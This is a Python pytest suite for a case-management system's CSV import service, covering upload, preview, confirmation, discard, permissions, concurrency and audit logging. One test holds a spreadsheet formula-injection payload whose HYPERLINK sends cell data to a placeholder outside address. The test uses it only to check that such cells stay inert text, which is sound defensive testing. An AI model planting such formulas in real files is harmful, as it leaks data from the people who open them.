"""Files uploaded, looked at, confirmed and discarded."""

import dataclasses
import datetime as dt
import json
import random
import threading
import uuid
from collections.abc import Callable
from types import MappingProxyType

import pytest
import sqlalchemy as sa
from support.ct_ocme import COLUMNS, GOOD, REFUSED, ROW_ERRORS, ct_ocme_file, ragged, row, usual_file
from support.world import NOTIFICATION, SYSTEM, World

from dard.accounts.enums import Role
from dard.audit.models import AuditEvent
from dard.audit.service import verify_log
from dard.cases.enums import CaseStatus
from dard.cases.models import Case, CaseEvent, CaseNotification
from dard.core.actor import Actor
from dard.core.database import db
from dard.core.errors import ConflictError, DomainError, ForbiddenError, NotFoundError, TransitionError
from dard.crypto.documents import open_document
from dard.crypto.models import SealedChunk, SealedDocument
from dard.imports import profiles, queries, service
from dard.imports.enums import ImportStatus
from dard.imports.models import ImportBatch, ImportedRow
from dard.imports.parsing import Profile, UnreadableFileError
from dard.imports.service import Outcome, Preview

TABLES = (Case, CaseNotification, ImportedRow)


def bring_in(world: World, data: bytes) -> Outcome:
    with world.at_work():
        batch = service.upload(SYSTEM, "ct-ocme", data)
        return service.confirm(SYSTEM, batch, batch.version)


def waiting(world: World, data: bytes) -> uuid.UUID:
    with world.at_work():
        return service.upload(SYSTEM, "ct-ocme", data).id


def rehearsed(world: World, data: bytes) -> Preview:
    with world.at_work():
        return service.rehearse(SYSTEM, "ct-ocme", data)


def counts(world: World) -> list[int]:
    with world.at_work():
        return [db.session.scalar(sa.select(sa.func.count()).select_from(table)) for table in TABLES]


def told(found: Preview | Outcome) -> list[tuple[int, str, str]]:
    return [(number, problem.column, problem.message) for number, problems in found.errors for problem in problems]


def kept(batch: ImportBatch) -> bytes:
    return b"".join(open_document(batch.content, batch.id))


def documents() -> list[int]:
    """How many documents and chunks are kept."""
    return [db.session.scalar(sa.select(sa.func.count()).select_from(table)) for table in (SealedDocument, SealedChunk)]


def codes() -> list[str]:
    return list(db.session.scalars(sa.select(AuditEvent.code).order_by(AuditEvent.position)))


# uploading


def test_an_uploaded_file_is_kept_sealed_and_no_case_is_made(world: World) -> None:
    coordinator = world.person(Role.COORDINATOR)
    with world.at_work():
        batch = service.upload(coordinator.actor, "ct-ocme", GOOD)
        assert (batch.rows, batch.status, batch.uploaded_by_id) == (3, ImportStatus.PREVIEWED, coordinator.id)
        assert kept(batch) == GOOD
        assert b"Heroin" not in db.session.scalar(sa.select(SealedChunk.chunk_sealed))
        assert codes()[-1] == "import.uploaded"
    assert counts(world) == [0, 0, 0]


@pytest.mark.parametrize(("data", "message"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_a_file_that_cannot_be_read_is_refused_and_nothing_of_it_is_kept(
    world: World, data: bytes, message: str
) -> None:
    with pytest.raises(UnreadableFileError) as raised, world.at_work():
        service.upload(SYSTEM, "ct-ocme", data)
    assert message in raised.value.message
    with pytest.raises(UnreadableFileError), world.at_work():
        service.rehearse(SYSTEM, "ct-ocme", data)
    with world.at_work():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0
        assert "import.uploaded" not in codes()


def test_a_file_of_a_heading_alone_is_imported_and_makes_nothing(world: World) -> None:
    assert bring_in(world, usual_file(0)) == Outcome(rows=0, created=0, unchanged=0, errors=[])


def test_an_unknown_profile_is_refused_with_those_there_are(world: World) -> None:
    with pytest.raises(DomainError, match="ct-ocme") as raised, world.at_work():
        service.upload(SYSTEM, "police", GOOD)
    assert raised.value.field == "profile"


@pytest.mark.parametrize("role", [role for role in Role if role is not Role.COORDINATOR])
def test_only_coordinators_import(world: World, role: Role) -> None:
    actor = world.person(role).actor
    batch_id = waiting(world, GOOD)
    for attempt in (service.upload, service.rehearse):
        with pytest.raises(ForbiddenError), world.at_work():
            attempt(actor, "ct-ocme", GOOD)
    with pytest.raises(NotFoundError), world.at_work():
        service.load_batch(actor, batch_id, {})
    with pytest.raises(ForbiddenError), world.at_work():
        service.confirm(actor, world.get(ImportBatch, batch_id), 1)
    assert counts(world) == [0, 0, 0]


# looking at it


def test_a_preview_counts_and_changes_nothing(world: World) -> None:
    batch_id = waiting(world, ct_ocme_file([row(1), row(2, Age="17")]))
    with world.at_work():
        found = service.preview(SYSTEM, world.get(ImportBatch, batch_id))
        assert (found.rows, found.new, found.unchanged, len(found.errors)) == (2, 1, 0, 1)
        assert codes()[-1] == "import.previewed"
    assert counts(world) == [0, 0, 0]


@pytest.mark.parametrize(("cells", "column", "message"), ROW_ERRORS, ids=[case[2] for case in ROW_ERRORS])
def test_a_row_that_cannot_be_used_is_listed_and_the_others_are_imported(
    world: World, cells: dict[str, str], column: str, message: str
) -> None:
    found = bring_in(world, ct_ocme_file([row(1), cells, row(2)]))
    assert (found.rows, found.created, len(found.errors)) == (3, 2, 1)
    ((number, named, said),) = told(found)
    assert (number, named) == (3, column)
    assert message in said
    assert counts(world) == [2, 2, 2]


def test_a_ragged_row_is_listed_and_the_others_are_imported(world: World) -> None:
    found = bring_in(world, ragged(GOOD, 3))
    assert (found.rows, found.created) == (3, 2)
    assert [(number, column) for number, column, _ in told(found)] == [(3, "")]
    assert f"has {len(COLUMNS) + 1} values" in told(found)[0][2]


def test_all_problems_of_a_row_are_told_and_count_as_one_error(world: World) -> None:
    found = rehearsed(world, ct_ocme_file([row(1, Date="", Age="old", Sex="Q")]))
    assert [column for _, column, _ in told(found)] == ["Date", "Age", "Sex"]
    assert len(found.errors) == 1


def test_a_row_that_stands_twice_is_imported_once(world: World) -> None:
    data = ct_ocme_file([row(1), row(1), row(1, Age="50")])
    found = bring_in(world, data)
    assert (found.created, [number for number, _, _ in told(found)]) == (1, [3, 4])
    again = bring_in(world, data)
    assert (again.created, again.unchanged, told(again)) == (0, 1, told(found))


def test_what_the_form_would_refuse_is_refused_of_a_row_too(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    def notification(cells):
        return dataclasses.replace(
            NOTIFICATION, source_reference=cells["Ref"], nhs_number=cells["NHS"], postcode=cells["Postcode"]
        )

    police = Profile(
        name="police",
        title="Police",
        required_columns=("Ref", "NHS", "Postcode"),
        row_key=lambda cells: cells["Ref"],
        to_notification=notification,
        columns=MappingProxyType({"nhs_number": "NHS"}),
    )
    monkeypatch.setattr(profiles, "PROFILES", {"police": police})
    data = b"Ref,NHS,Postcode\n1,999 000 0018,ZZ1 4QF\n2,999 000 0019,ZZ1 4QF\n3,,nowhere\n"
    with world.at_work():
        found = service.rehearse(SYSTEM, "police", data)
    assert (found.new, [(number, column) for number, column, _ in told(found)]) == (1, [(3, "NHS"), (4, "")])
    assert "mistyped" in told(found)[0][2]


# confirming


def test_confirming_makes_a_case_of_each_good_row(world: World) -> None:
    coordinator = world.person(Role.COORDINATOR)
    batch_id = waiting(world, ct_ocme_file([row(1), row(2, Age="17"), row(3, ID="99-0003")]))
    with world.at_work():
        batch = world.get(ImportBatch, batch_id)
        outcome = service.confirm(coordinator.actor, batch, 1)
        assert (outcome.rows, outcome.created, outcome.unchanged, len(outcome.errors)) == (3, 2, 0, 1)
    with world.at_work():
        batch = world.get(ImportBatch, batch_id)
        assert (batch.status, batch.content) == (ImportStatus.CONFIRMED, None)
        assert documents() == [0, 0]
        assert (batch.created, batch.unchanged, batch.errors) == (2, 0, 1)
        assert batch.confirmed_at == dt.datetime(2026, 3, 3, 10, tzinfo=dt.UTC)
        cases = db.session.scalars(sa.select(Case).order_by(Case.number)).all()
        assert [case.reference for case in cases] == ["2026-0001", "2026-0002"]
        assert {case.status for case in cases} == {CaseStatus.NOTIFIED}
        assert [case.notification.source_reference for case in cases] == ["99-0001", "99-0003"]
        assert cases[0].person.address == "Sandy Hook, CT"
        assert codes()[-4:] == ["import.uploaded", "case.imported", "case.imported", "import.confirmed"]
        details = db.session.scalars(sa.select(AuditEvent.details).where(AuditEvent.code == "case.imported"))
        assert {json.loads(each)["row"] for each in details} == {2, 4}
        assert verify_log().fault is None


def test_a_formula_in_a_cell_stays_text(world: World) -> None:
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
    bring_in(world, ct_ocme_file([row(1, ID="@SUM(1+1)", COD=formula, DeathCity="+norwalk", Other="-2+3")]))
    with world.at_work():
        assert formula in db.session.scalar(sa.select(CaseEvent)).narrative
        assert "Other substances: -2+3" in db.session.scalar(sa.select(CaseEvent)).narrative
        assert db.session.scalar(sa.select(CaseNotification)).source_reference == "@SUM(1+1)"
        assert db.session.scalar(sa.select(Case.district)) == "+norwalk"


def test_more_rows_than_are_inserted_at_a_time_are_all_inserted(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(service, "AT_A_TIME", 2)
    monkeypatch.setattr(queries, "AT_A_TIME", 2)
    done: list[int] = []
    with world.at_work():
        batch = service.upload(
            SYSTEM, "ct-ocme", ct_ocme_file([*(row(number) for number in range(1, 6)), row(6, Age="x")])
        )
        service.confirm(SYSTEM, batch, batch.version, done.append)
    assert done == [1, 2, 2, 1]
    with world.at_work():
        assert list(db.session.scalars(sa.select(Case.number).order_by(Case.number))) == [1, 2, 3, 4, 5]
    assert bring_in(world, usual_file(5)).unchanged == 5


def test_the_same_file_three_times_makes_its_cases_once(world: World) -> None:
    outcomes = [bring_in(world, GOOD) for _ in range(3)]
    assert [(each.created, each.unchanged, len(each.errors)) for each in outcomes] == [(3, 0, 0), (0, 3, 0), (0, 3, 0)]
    assert counts(world) == [3, 3, 3]


def test_rows_and_columns_in_another_order_are_recognised(world: World) -> None:
    rows = [row(number) for number in range(1, 21)]
    bring_in(world, ct_ocme_file(rows))
    chance = random.Random(7)
    chance.shuffle(rows)
    columns = [*COLUMNS, "Added later"]
    chance.shuffle(columns)
    again = bring_in(world, ct_ocme_file([*rows, row(21)], columns=columns))
    assert (again.created, again.unchanged, again.errors) == (1, 20, [])


def test_columns_that_are_not_taken_and_spaces_round_cells_do_not_change_a_row(world: World) -> None:
    bring_in(world, ct_ocme_file([row(1)]))
    again = bring_in(world, ct_ocme_file([row(1, Race="White", Age=" 48 ")]))
    assert (again.created, again.unchanged) == (0, 1)


def test_a_row_that_says_something_else_now_is_an_error_that_names_its_case(world: World) -> None:
    bring_in(world, GOOD)
    changed = bring_in(world, ct_ocme_file([row(1), row(2, Age="49"), row(3)]))
    assert (changed.created, changed.unchanged) == (0, 2)
    ((number, column, message),) = told(changed)
    assert (number, column) == (3, "ID")
    assert "Case 2026-0002" in message
    assert "Correct that case in its file" in message
    with world.at_work():
        assert set(db.session.scalars(sa.select(Case.version))) == {1}


def test_a_changed_row_that_cannot_be_used_is_told_what_is_wrong_with_it(world: World) -> None:
    bring_in(world, GOOD)
    ((_, column, _),) = told(rehearsed(world, ct_ocme_file([row(1, Age="17"), row(2)])))
    assert column == "Age"


def test_a_row_that_was_imported_stays_unchanged_though_it_would_be_refused_today(world: World, still) -> None:
    data = ct_ocme_file([row(1, Date="03/02/2026")])
    bring_in(world, data)
    still.move(days=-2)
    again = rehearsed(world, data)
    assert (again.new, again.unchanged, again.errors) == (0, 1, [])


def test_a_row_whose_case_was_deleted_is_new_again(world: World) -> None:
    bring_in(world, GOOD)
    with world.at_work():
        db.session.connection().execute(sa.delete(Case.__table__).where(Case.number == 2))
    again = rehearsed(world, GOOD)
    assert (again.new, again.unchanged) == (1, 2)


def test_an_import_that_fails_half_way_leaves_nothing(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(service, "AT_A_TIME", 1)
    batch_id = waiting(world, GOOD)
    done: list[int] = []

    def fail(rows: int) -> None:
        done.append(rows)
        if len(done) == 3:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt), world.at_work():
        service.confirm(SYSTEM, world.get(ImportBatch, batch_id), 1, fail)
    assert counts(world) == [0, 0, 0]
    with world.at_work():
        assert kept(world.get(ImportBatch, batch_id)) == GOOD
        assert codes() == ["import.uploaded"]
        assert service.confirm(SYSTEM, world.get(ImportBatch, batch_id), 1).created == 3


@pytest.mark.parametrize("first", [service.confirm, service.discard])
@pytest.mark.parametrize(
    "second", [service.confirm, service.discard, lambda actor, batch, _: service.preview(actor, batch)]
)
def test_what_is_decided_stands(world: World, first: Callable, second: Callable) -> None:
    batch_id = waiting(world, GOOD)
    with world.at_work():
        first(SYSTEM, world.get(ImportBatch, batch_id), 1)
    before = counts(world)
    with pytest.raises(TransitionError, match="already"), world.at_work():
        second(SYSTEM, world.get(ImportBatch, batch_id), 2)
    assert counts(world) == before


@pytest.mark.parametrize("decide", [service.confirm, service.discard])
def test_a_stale_version_is_refused(world: World, decide: Callable) -> None:
    batch_id = waiting(world, GOOD)
    with pytest.raises(ConflictError), world.at_work():
        decide(SYSTEM, world.get(ImportBatch, batch_id), 7)
    assert counts(world) == [0, 0, 0]


def test_a_discarded_file_is_dropped(world: World) -> None:
    batch_id = waiting(world, GOOD)
    with world.at_work():
        service.discard(SYSTEM, world.get(ImportBatch, batch_id), 1)
    with world.at_work():
        batch = world.get(ImportBatch, batch_id)
        assert (batch.status, batch.content, batch.created) == (ImportStatus.DISCARDED, None, None)
        assert documents() == [0, 0]
        assert codes() == ["import.uploaded", "import.discarded"]
    assert counts(world) == [0, 0, 0]


# at the same moment


def at_once(*works: Callable[[], object]) -> list[object]:
    """Do ``works`` side by side; their results, or the errors that they raised, in their order."""
    results: list[object] = [None] * len(works)
    start = threading.Barrier(len(works))

    def run(place: int) -> None:
        start.wait()
        try:
            results[place] = works[place]()
        except DomainError as error:
            results[place] = error

    threads = [threading.Thread(target=run, args=(place,)) for place in range(len(works))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


def confirmed(world: World, batch_id: uuid.UUID) -> Outcome:
    with world.at_work():
        return service.confirm(SYSTEM, world.get(ImportBatch, batch_id), 1)


def test_of_two_confirmations_of_one_upload_at_once_the_second_is_told(world: World) -> None:
    batch_id = waiting(world, usual_file(40))
    results = at_once(lambda: confirmed(world, batch_id), lambda: confirmed(world, batch_id))
    assert {type(result) for result in results} == {Outcome, TransitionError}
    assert counts(world) == [40, 40, 40]


def test_of_two_uploads_of_one_file_confirmed_at_once_the_second_changes_nothing(world: World) -> None:
    first, second = waiting(world, usual_file(40)), waiting(world, usual_file(40))
    results = at_once(lambda: confirmed(world, first), lambda: confirmed(world, second))
    assert sorted((each.created, each.unchanged) for each in results) == [(0, 40), (40, 0)]
    assert counts(world) == [40, 40, 40]


def test_the_database_refuses_a_row_that_came_in_by_another_way_meanwhile(world: World) -> None:
    bring_in(world, ct_ocme_file([row(9)]))
    batch_id = waiting(world, GOOD)

    def meddle(_rows: int) -> None:
        known = db.session.scalar(sa.select(ImportedRow))
        known.row_key = service._row_key(profiles.PROFILES["ct-ocme"], "99-0002")
        db.session.flush()

    with pytest.raises(ConflictError, match="nothing of this one was imported"), world.at_work():
        service.confirm(SYSTEM, world.get(ImportBatch, batch_id), 1, meddle)
    assert counts(world) == [1, 1, 1]


def test_another_fault_of_the_database_is_not_taken_for_it(world: World) -> None:
    batch_id = waiting(world, GOOD)

    def meddle(_rows: int) -> None:
        db.session.execute(
            sa.insert(Case.__table__),
            {
                "id": uuid.uuid4(),
                "reference": "2026-0001",
                "year": 1999,
                "number": 1,
                "stream": NOTIFICATION.stream,
                "status": CaseStatus.NOTIFIED,
                "event_date": NOTIFICATION.event_date,
                "event_date_precision": NOTIFICATION.event_date_precision,
                "version": 1,
            },
        )

    with pytest.raises(sa.exc.IntegrityError), world.at_work():
        service.confirm(SYSTEM, world.get(ImportBatch, batch_id), 1, meddle)
    assert counts(world) == [0, 0, 0]


# lists


def test_imports_are_listed_newest_first_with_their_counts(world: World, still) -> None:
    coordinator = world.person(Role.COORDINATOR, name="Ingrid Alder")
    bring_in(world, GOOD)
    still.move(minutes=1)
    with world.at_work():
        service.upload(coordinator.actor, "ct-ocme", GOOD)
    with world.at_work():
        lines, total = queries.imports(SYSTEM, limit=1, offset=0)
        assert (total, len(lines)) == (2, 1)
        assert (lines[0].uploaded_by, lines[0].status, lines[0].created) == (
            "Ingrid Alder",
            ImportStatus.PREVIEWED,
            None,
        )
        (older,) = queries.imports(SYSTEM, limit=1, offset=1)[0]
        assert (older.uploaded_by, older.rows, older.created, older.unchanged, older.errors) == (None, 3, 3, 0, 0)
        assert [line.id for line in queries.waiting(SYSTEM, limit=10)] == [lines[0].id]


def test_a_file_cannot_be_dropped_while_somebody_looks_at_it(world: World) -> None:
    batch_id = waiting(world, GOOD)
    with world.at_work():
        service.preview(SYSTEM, world.get(ImportBatch, batch_id))
        assert refused_at_once(world)
    assert not refused_at_once(world)


def refused_at_once(world: World) -> bool:
    """Whether somebody else who begins to change the import is told that it is in use."""
    with world.app.app_context():
        url = db.engine.url
        if url.get_backend_name() == "postgresql":
            engine = sa.create_engine(url)
            statement = "SELECT id FROM import_batch FOR NO KEY UPDATE NOWAIT"
        else:
            engine = sa.create_engine(url, connect_args={"timeout": 0, "isolation_level": None})
            statement = "BEGIN IMMEDIATE"
    try:
        with engine.connect() as connection:
            connection.exec_driver_sql(statement)
    except sa.exc.OperationalError:
        return True
    finally:
        engine.dispose()
    return False


def test_who_may_not_import_sees_no_import(world: World) -> None:
    waiting(world, GOOD)
    with world.at_work():
        assert queries.imports(Actor.nobody(), limit=10, offset=0) == ([], 0)
        assert queries.waiting(Actor.nobody(), limit=10) == []


def test_an_import_without_its_content_is_a_fault(world: World) -> None:
    with pytest.raises(RuntimeError):
        service._content(ImportBatch(profile="ct-ocme", status=ImportStatus.PREVIEWED, rows=0))
